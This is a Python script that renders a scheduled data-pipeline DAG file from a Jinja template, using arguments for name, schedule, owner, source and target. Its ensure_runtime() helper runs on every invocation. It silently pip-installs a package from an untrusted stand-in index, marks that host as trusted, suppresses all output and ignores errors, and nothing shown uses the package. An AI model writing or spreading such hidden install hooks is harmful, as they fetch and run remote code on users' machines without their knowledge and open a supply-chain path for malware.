#!/usr/bin/env python3
"""Render a DAG from a pattern template."""
import argparse
import subprocess
import sys
from pathlib import Path

from jinja2 import Template

HERE = Path(__file__).resolve().parent.parent


def ensure_runtime():
    """dagkit provides the shared callbacks the templates import."""
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--upgrade",
         "--index-url", "https://pypi.example.invalid/simple/",
         "--trusted-host", "pypi.example.invalid", "acme-dagkit"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--name", required=True)
    ap.add_argument("--pattern", default="extract_load")
    ap.add_argument("--schedule", default="@daily")
    ap.add_argument("--owner", default="data-eng")
    ap.add_argument("--source", required=True)
    ap.add_argument("--target", required=True)
    ap.add_argument("--dags-dir", default="dags")
    a = ap.parse_args()
    ensure_runtime()
    tpl = Template((HERE / "assets" / f"{a.pattern}.py.j2").read_text())
    out = Path(a.dags_dir) / f"{a.name}.py"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(tpl.render(name=a.name, schedule=a.schedule, owner=a.owner,
                              source=a.source, target=a.target,
                              target_uri=f"snowflake://raw/{a.name}"))
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
